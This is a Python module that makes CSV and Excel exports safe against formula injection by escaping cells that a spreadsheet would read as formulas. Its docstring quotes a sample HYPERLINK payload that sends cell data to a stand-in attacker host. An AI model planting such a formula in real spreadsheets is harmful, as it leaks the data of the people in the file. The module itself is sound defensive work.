"""Cells for CSV and Excel exports that are safe to open in a spreadsheet.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel and LibreOffice as a formula, so a citizen's name, a bank statement's reference or a remark
such as ``=HYPERLINK("http://evil.example/?"&A1)`` would run when the Society opens the file (CSV
injection). Every export writes its cells through :func:`cell`, which puts an apostrophe before such
text; plain numbers (``-150.00``, ``-1,00,000.00``) stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from typing import Any, Iterable, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: the control characters an .xlsx cell cannot hold (openpyxl refuses them; tab, line feed and carriage return are allowed)
_NOT_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_PLAIN_NUMBER = re.compile(r"-?\d[\d,]*(\.\d+)?\Z")  # -150.00, -1,00,000.00: numbers, not formulas


def cell(value: Any) -> Any:
    """``value``, with an apostrophe before text a spreadsheet would take for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    """A row of cells, each through :func:`cell` (for ``sheet.append`` of openpyxl)."""
    return [cell(v) for v in values]


class SafeWriter:
    """``csv.writer`` whose rows pass through :func:`cell`."""

    def __init__(self, out: Any, **options: Any):
        self._writer = csv.writer(out, **options)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def writer(out: Any, **options: Any) -> SafeWriter:
    """Like ``csv.writer(out, **options)``, with formula-like cells neutralised."""
    return SafeWriter(out, **options)


class Sheet:
    """A sheet of a :class:`Book`, written a row at a time (openpyxl's write-only mode: rows go to
    a temporary file, not memory). Every text is a text cell, through :func:`cell`, so nothing is a
    formula; the ``text`` columns are also formatted as text ("@"), so a spreadsheet keeps a 12-digit
    UTR or a 16-digit card or slip number as it is, digits and all, when the cell is edited or the
    file saved again (a CSV opened in Excel loses them: scientific notation). The ``money`` columns,
    given as rupee strings (``"1483.50"``), become numbers with two decimals. A control character no
    .xlsx cell can hold (a vertical tab, an escape) is written as its escape, ``\\x0b``."""

    def __init__(self, book: Any, title: str):
        self._book = book
        self._sheet = book.create_sheet(title)
        self._text: set[int] = set()
        self._money: set[int] = set()

    def heading(self, columns: Sequence[str], text: Iterable[str] = (), money: Iterable[str] = (),
                names: Sequence[str] | None = None) -> None:
        """Start a table: its column names (a bold row, if any), and which of them are text or money;
        ``names``, when given, are written in the bold row in their place (a page's words for codes)."""
        text, money = set(text), set(money)
        self._text = {i for i, c in enumerate(columns) if c in text}
        self._money = {i for i, c in enumerate(columns) if c in money}
        if columns:
            from openpyxl.cell import WriteOnlyCell
            from openpyxl.styles import Font

            row = []
            for name in (names if names is not None else columns):
                head = WriteOnlyCell(self._sheet, value=cell(name))
                head.font = Font(bold=True)
                row.append(head)
            self._sheet.append(row)

    def append(self, values: Iterable[Any]) -> None:
        from openpyxl.cell import WriteOnlyCell

        row = []
        for i, value in enumerate(values):
            if i in self._money and isinstance(value, str):
                value = Decimal(value) if value else None  # exact: only for display in the spreadsheet
            if isinstance(value, str) and _NOT_IN_XLSX.search(value):  # (a narration printed for a line printer): shown as its escape
                value = _NOT_IN_XLSX.sub(lambda found: f"\\x{ord(found.group()):02x}", value)
            out = WriteOnlyCell(self._sheet, value=cell(value))
            if isinstance(value, str):
                out.data_type = "s"  # text, never a formula
            if i in self._text:
                out.number_format = "@"
            elif i in self._money:
                out.number_format = "0.00"
            row.append(out)
        self._sheet.append(row)

    def extend(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.append(values)


class Book:
    """An Excel workbook (.xlsx) of sheets (:class:`Sheet`), written as it is built."""

    def __init__(self) -> None:
        from openpyxl import Workbook

        self._book = Workbook(write_only=True)

    def sheet(self, title: str, columns: Sequence[str] = (), text: Iterable[str] = (), money: Iterable[str] = (),
              names: Sequence[str] | None = None) -> Sheet:
        sheet = Sheet(self._book, title)
        sheet.heading(columns, text, money, names)
        return sheet

    def save(self) -> bytes:
        out = io.BytesIO()
        self._book.save(out)
        return out.getvalue()
